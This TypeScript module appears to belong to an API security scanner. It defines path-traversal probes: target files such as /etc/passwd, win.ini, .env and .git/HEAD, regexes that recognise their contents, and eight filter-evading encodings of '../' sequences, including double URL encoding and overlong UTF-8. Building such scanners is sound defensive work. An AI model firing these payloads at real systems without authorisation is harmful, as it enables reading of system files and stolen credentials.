/** A file whose content can be told from anything else. */
export interface KnownFile {
  readonly what: string;
  /** Absolute, or relative to a folder of the API. */
  readonly path: string;
  readonly content: RegExp;
  /** Tried at places where nothing points to a file, too. */
  readonly common: boolean;
}

export const KNOWN_FILES: readonly KnownFile[] = [
  { what: '/etc/passwd', path: '/etc/passwd', content: /root:[^:\s]{0,120}:0:0:/, common: true },
  {
    what: 'win.ini of Windows',
    path: '/windows/win.ini',
    content: /; for 16-bit app support|\[(?:fonts|extensions|mci extensions)\]\s|\[fonts\]\\r/i,
    common: false,
  },
];

/** Eight steps lead out of any folder that a file is likely in. */
const UP = 8;

/** Ways to write an absolute path so that a folder before it does not matter, the plainest first. */
export const ESCAPES: readonly ((path: string) => string)[] = [
  (path) => '../'.repeat(UP) + path.slice(1),
  (path) => path,
  (path) => '..\\'.repeat(UP) + path.slice(1).replaceAll('/', '\\'),
  // Filters that take `../` out once; readers that decode twice; overlong and odd separators.
  (path) => '....//'.repeat(UP) + path.slice(1),
  (path) => '%2e%2e%2f'.repeat(UP) + path.slice(1).replaceAll('/', '%2f'),
  (path) => '%252e%252e%252f'.repeat(UP) + path.slice(1).replaceAll('/', '%252f'),
  (path) => '..%c0%af'.repeat(UP) + path.slice(1),
  (path) => `./${'../'.repeat(UP)}${path.slice(1)}`,
];

/** What lies in the folders of an API itself, above those of its documents. */
export const OWN_FILES: readonly KnownFile[] = [
  {
    what: 'its package.json',
    path: 'package.json',
    content: /"(?:dependencies|devDependencies|scripts)"\s{0,20}:\s{0,20}\{/,
    common: false,
  },
  { what: 'its .env', path: '.env', content: /^(?:export )?[A-Z][A-Z0-9_]{2,60}=[^\n]{0,200}$/m, common: false },
  {
    what: 'the state of its repository',
    path: '.git/HEAD',
    content: /^ref: refs\/heads\/[\w./-]{1,80}\s{0,4}$/,
    common: false,
  },
  {
    what: 'its requirements.txt',
    path: 'requirements.txt',
    content: /^[A-Za-z][\w.-]{1,60}==\d[\w.]{0,20}\s{0,4}$/m,
    common: false,
  },
  { what: 'its Dockerfile', path: 'Dockerfile', content: /^FROM [\w./:@-]{2,120}/m, common: false },
  { what: 'its pom.xml', path: 'pom.xml', content: /<project[\s>][\s\S]{0,2000}<modelVersion>/, common: false },
  { what: 'its go.mod', path: 'go.mod', content: /^module [\w./-]{2,120}\n[\s\S]{0,200}^go \d/m, common: false },
];
